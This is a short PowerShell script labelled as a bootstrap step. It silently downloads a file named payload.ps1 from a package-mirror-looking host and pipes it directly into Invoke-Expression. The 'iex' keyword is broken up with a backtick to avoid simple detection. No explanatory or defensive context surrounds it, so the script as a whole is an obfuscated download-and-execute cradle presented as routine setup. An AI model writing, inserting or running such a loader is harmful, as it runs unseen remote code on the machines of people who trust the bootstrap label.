# bootstrap 3903 v2
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://repo.pkg-mirror.example/payload.ps1 | ie`x
